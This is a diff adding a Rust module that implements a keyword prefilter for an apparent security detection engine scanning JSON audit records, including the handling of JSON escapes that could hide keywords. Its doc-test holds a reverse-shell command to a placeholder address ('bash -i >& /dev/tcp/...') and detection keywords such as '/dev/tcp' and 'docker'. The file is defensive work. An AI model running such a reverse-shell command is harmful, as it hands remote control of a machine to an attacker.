@@ -1,0 +1,111 @@
+//! The byte-level prefilter: proves that a record cannot match any rule of a
+//! profile before anything is parsed.
+//!
+//! A profile names keywords (ASCII case-insensitive). A record containing none
+//! of them cannot match — unless JSON escapes hide one (`\u0064ocker`, `\/dev\/tcp`),
+//! so a record with an escape that decodes to a character some keyword contains
+//! is always read in full. Escapes of other characters (Go's `\u0026` for `&`,
+//! common in Kubernetes audit URIs) do not defeat the filter.
+//!
+//! The record is lower-cased in 4 KiB chunks on the stack (overlapping by the
+//! longest keyword) and searched case-sensitively, which lets aho-corasick use its
+//! SIMD "Teddy" searcher; an ASCII-case-insensitive automaton cannot.
+
+use alloc::string::String;
+use alloc::vec::Vec;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use memchr::memmem;
+
+const CHUNK: usize = 4096;
+
+/// A compiled prefilter.
+#[derive(Clone, Debug)]
+pub struct Prefilter {
+    searcher: AhoCorasick,
+    longest: usize,
+    /// Bytes that occur in some keyword (both cases), i.e. that an escape could hide.
+    keyword_bytes: [bool; 128],
+    slash: bool,
+}
+
+impl Prefilter {
+    /// Builds a prefilter for `keywords` (non-empty, matched ASCII case-insensitively).
+    pub fn new(keywords: &[String]) -> Result<Prefilter, String> {
+        let lower: Vec<String> = keywords.iter().map(|w| w.to_ascii_lowercase()).collect();
+        let longest = lower.iter().map(|w| w.len()).max().unwrap_or(1);
+        if longest >= CHUNK / 2 {
+            return Err(alloc::format!("prefilter keywords must be shorter than {} bytes", CHUNK / 2));
+        }
+        let searcher = AhoCorasickBuilder::new()
+            .match_kind(MatchKind::LeftmostFirst)
+            .build(&lower)
+            .map_err(|e| alloc::format!("prefilter: {e}"))?;
+        let mut keyword_bytes = [false; 128];
+        for b in lower.iter().flat_map(|w| w.bytes()) {
+            if b < 128 {
+                keyword_bytes[b as usize] = true;
+                keyword_bytes[b.to_ascii_uppercase() as usize] = true;
+            } else {
+                // Non-ASCII keyword bytes could be hidden by any \u escape.
+                keyword_bytes = [true; 128];
+            }
+        }
+        let slash = keyword_bytes[b'/' as usize];
+        Ok(Prefilter { searcher, longest, keyword_bytes, slash })
+    }
+
+    /// True when the record may match (contains a keyword, or an escape that could hide one).
+    ///
+    /// ```
+    /// use cadet_core::prefilter::Prefilter;
+    /// let p = Prefilter::new(&["docker".into(), "/dev/tcp".into()]).unwrap();
+    /// assert!(p.may_match(br#"{"cmd":"DOCKER ps"}"#));
+    /// assert!(p.may_match(br#"{"cmd":"\u0064ocker ps"}"#));
+    /// assert!(p.may_match(br#"{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444"}"#));
+    /// assert!(!p.may_match(br#"{"uri":"/apis/v1?a=1\u0026b=2"}"#));
+    /// let ctr = Prefilter::new(&[" ctr".into()]).unwrap();
+    /// assert!(ctr.may_match(b"ctr run x") && ctr.may_match(b"sudo ctr run x") && !ctr.may_match(b"objectRef"));
+    /// ```
+    pub fn may_match(&self, record: &[u8]) -> bool {
+        // The record is searched as if a space preceded it, so that a keyword such as
+        // " ctr" (a program name at a word start) also matches at the very beginning.
+        let mut buf = [0u8; CHUNK];
+        buf[0] = b' ';
+        let (mut start, mut lead) = (0, 1);
+        loop {
+            let end = (start + CHUNK - lead).min(record.len());
+            let chunk = &mut buf[lead..lead + end - start];
+            for (d, s) in chunk.iter_mut().zip(&record[start..end]) {
+                *d = s.to_ascii_lowercase();
+            }
+            if self.searcher.is_match(&buf[..lead + end - start]) {
+                return true;
+            }
+            if end == record.len() {
+                break;
+            }
+            start = end + 1 - self.longest;
+            lead = 0;
+        }
+        self.escape_may_hide_keyword(record)
+    }
+
+    fn escape_may_hide_keyword(&self, record: &[u8]) -> bool {
+        if memchr::memchr(b'\\', record).is_none() {
+            return false;
+        }
+        if self.slash && memmem::find(record, b"\\/").is_some() {
+            return true;
+        }
+        memmem::find_iter(record, b"\\u").any(|at| {
+            let hex = record.get(at + 2..at + 6).unwrap_or(b"");
+            let value = core::str::from_utf8(hex).ok().and_then(|h| u32::from_str_radix(h, 16).ok());
+            match value {
+                Some(v) if v < 128 => self.keyword_bytes[v as usize],
+                Some(_) => false,
+                None => true, // malformed escape: read the record and let the parser report it
+            }
+        })
+    }
+}
